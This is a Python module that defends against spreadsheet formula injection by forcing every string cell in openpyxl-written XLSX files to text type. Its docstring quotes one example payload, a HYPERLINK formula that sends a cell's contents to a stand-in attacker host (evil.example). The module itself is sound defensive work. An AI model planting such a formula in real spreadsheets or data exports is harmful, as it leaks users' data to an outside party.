"""Writing XLSX files whose text can never run as a formula (formula injection, issue 11 §7).

openpyxl stores any string that starts with ``=`` as a formula: an organisation named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` became a live formula in the public complaint statistics.
Prongsai never writes formulas, so every text cell is text:

- :func:`set_cell` / :func:`append_row` write values with strings as text (``data_type`` ``"s"``);
- :func:`workbook_bytes` saves a workbook after turning any cell that would be written as a formula back
  into text: every XLSX Prongsai writes goes out through it, whoever wrote the cells.

Text is kept as it is (no leading apostrophe added): in an XLSX the cell type, not the first character,
decides what a spreadsheet program does with it.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook.workbook import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["append_row", "as_text", "set_cell", "workbook_bytes"]

_TEXT = "s"
_FORMULA = "f"


def as_text(cell: Cell) -> Cell:
    """``cell`` with a string value marked as text (never a formula); other values untouched."""
    if isinstance(cell.value, str) and cell.data_type != _TEXT:
        cell.data_type = _TEXT
    return cell


def set_cell(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``sheet.cell(row, column, value)`` with strings written as text."""
    return as_text(sheet.cell(row=row, column=column, value=value))


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with strings written as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        as_text(cell)


def workbook_bytes(workbook: Workbook) -> bytes:
    """The workbook as XLSX bytes, with every cell that holds a formula turned into text first."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == _FORMULA:
                    cell.data_type = _TEXT
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
